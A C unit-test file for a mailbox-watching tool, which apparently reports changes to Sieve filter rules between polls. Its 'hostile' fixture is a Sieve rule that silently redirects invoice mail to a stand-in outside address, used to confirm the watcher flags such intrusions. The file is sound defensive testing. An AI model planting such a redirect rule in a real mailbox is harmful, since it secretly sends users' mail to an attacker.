/* test_watch.c - a mailbox that is watched: what comes between two looks is told, once; what was
 * there before is not. */
#include "bench_act.h"
#include "check.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char calm[] = "require [\"fileinto\"];\n"
                           "# rule:[lists]\nif header :is \"list-id\" \"a\" { fileinto \"L\"; }\n";
static const char hostile[] =
    "require [\"fileinto\"];\n"
    "# rule:[lists]\nif header :is \"list-id\" \"a\" { fileinto \"L\"; }\n"
    "# rule:[.]\nif header :contains \"subject\" \"invoice\"\n"
    "{\n  redirect \"drop@outside.example\";\n}\n";

static int look(struct bench *bench, const char *more)
{
    char words[2000];

    snprintf(words, sizeof(words),
             "watch CASE 'imaps://%s@localhost:%u' --sieve localhost:%u --password-command 'echo "
             "%s' --ca-file %s --quiet %s",
             bench->user, bench->imaps, bench->sieve, DOVECOT_PASSWORD,
             bench->scene->dovecot.ca_file, more);
    return bench_run(bench, words);
}

/* Whether an acquisition of this case has come to its end. */
static bool has_looked(const char *path)
{
    struct casefile *cf = NULL;
    struct arena arena = {0};
    struct error err = {0};
    struct run *runs;
    size_t count = 0;
    bool ok = casefile_open(&cf, path, CASE_READ, &err) &&
              run_list(cf, &arena, &runs, &count, &err) && count > 0 && runs[0].ended > 0;

    arena_dispose(&arena);
    casefile_close(cf);
    return ok;
}

/* The intruder comes between the first look and the last. */
static void act_later(const struct bench *bench, const char *script)
{
    struct error err = {0};
    pid_t pid = fork();

    if (pid == 0) {
        while (!has_looked(bench->path))
            usleep(50000);
        _exit(dovecot_script(&bench->scene->dovecot, bench->user, "main", true, script, &err) ? 0
                                                                                              : 1);
    }
    assert_true(pid > 0);
}

static void what_comes_between_two_looks_is_told(void **state)
{
    struct scene *scene = scene_of(state);
    struct bench bench;
    int status;

    bench_open(&bench, scene, calm);
    act_later(&bench, hostile);
    assert_int_equal(look(&bench, "--rounds 4 --every 3"), 10);
    assert_true(wait(&status) > 0 && status == 0);
    bench_expect_said(&bench, "Watching: the first look is done");
    bench_expect_said(&bench, "new rule: ");
    bench_expect_said(&bench, "new finding: ");
    bench_expect_said(&bench, "drop@outside.example");
    bench_verify(&bench);
    /* Known from now on; nothing moved. */
    assert_int_equal(look(&bench, "--rounds 2 --every 1"), 0);
    assert_null(strstr(buf_c(&bench.said), "new rule: "));
    assert_null(strstr(buf_c(&bench.said), "new finding: "));
    bench_close(&bench);
}

static void a_rule_that_goes_is_told(void **state)
{
    struct scene *scene = scene_of(state);
    struct bench bench;
    int status;

    bench_open(&bench, scene, hostile);
    act_later(&bench, calm);
    assert_int_equal(look(&bench, "--rounds 4 --every 3 --json"), 10);
    assert_true(wait(&status) > 0 && status == 0);
    bench_expect_said(&bench, "\"what\":\"rule gone\"");
    assert_null(strstr(buf_c(&bench.said), "\"what\":\"new rule\""));
    bench_close(&bench);
}

/* Nobody can say that nothing moved where nobody could look. */
static void rules_that_cannot_be_read_are_no_all_clear(void **state)
{
    struct scene *scene = scene_of(state);
    struct bench bench;

    bench_open(&bench, scene, calm);
    assert_int_equal(look(&bench, "--rounds 1"), 0);
    bench.sieve = 1;
    assert_int_equal(look(&bench, "--rounds 2 --every 1"), 20);
    bench_expect_said(&bench, "NOT WATCHED: ");
    assert_null(strstr(buf_c(&bench.said), "rule gone"));
    bench_close(&bench);
}

static void words_that_make_no_sense_are_refused(void **state)
{
    struct scene *scene = scene_of(state);
    struct bench bench;

    bench_open(&bench, scene, NULL);
    assert_int_equal(look(&bench, "--every 3"), 2);
    bench_expect_said(&bench, "shut out who signs in too often");
    bench_close(&bench);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_comes_between_two_looks_is_told),
        cmocka_unit_test(a_rule_that_goes_is_told),
        cmocka_unit_test(rules_that_cannot_be_read_are_no_all_clear),
        cmocka_unit_test(words_that_make_no_sense_are_refused),
    };

    return cmocka_run_group_tests(tests, scene_open, scene_close);
}
